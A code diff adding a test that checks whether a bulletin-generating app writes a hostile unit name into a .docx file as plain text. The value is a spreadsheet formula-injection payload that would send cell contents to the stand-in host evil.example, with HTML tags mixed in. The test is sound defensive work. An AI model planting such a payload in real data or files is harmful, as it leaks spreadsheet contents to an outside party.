@@ -222,3 +222,14 @@ def test_the_bulletin_command_answers_bad_arguments_in_one_chinese_line(db, tmp_
             "bulletin", year=today.year, month=today.month, output=str(tmp_path / "x.docx")
         )
     assert not Bulletin.objects.exists()
+
+
+def test_hostile_unit_names_come_out_of_the_docx_as_the_text_typed(figures, commerce, unit_b):
+    unit_b.name = '=HYPERLINK("http://evil.example/?x="&A1,"<b>乙镇</b>")'
+    unit_b.save()
+    services.month_close(year=YEAR, month=6, user=commerce)
+    issued = services.bulletin_issue(year=YEAR, month=6, user=commerce)
+    with issued.file.open("rb") as handle:
+        paragraphs, table = docx_text(handle.read())
+    assert table[2][1] == unit_b.name
+    assert f"严重滞后单位（1个）：{unit_b.name}" in paragraphs
